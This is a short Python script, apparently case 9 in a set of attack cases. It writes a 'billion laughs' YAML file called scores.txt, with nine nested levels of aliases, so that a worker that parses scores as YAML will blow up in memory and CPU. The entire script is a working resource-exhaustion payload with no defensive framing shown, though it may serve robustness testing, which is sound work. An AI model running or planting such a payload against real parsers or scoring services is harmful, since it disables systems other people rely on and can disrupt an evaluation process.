# 9: billion laughs in scores.txt (read as YAML, as the worker does).
import os
import sys

lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for prev, name in zip("abcdefgh", "bcdefghi"):
    lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
lines.append("score: *i")
open(os.path.join(sys.argv[1], "scores.txt"), "w").write("\n".join(lines) + "\n")
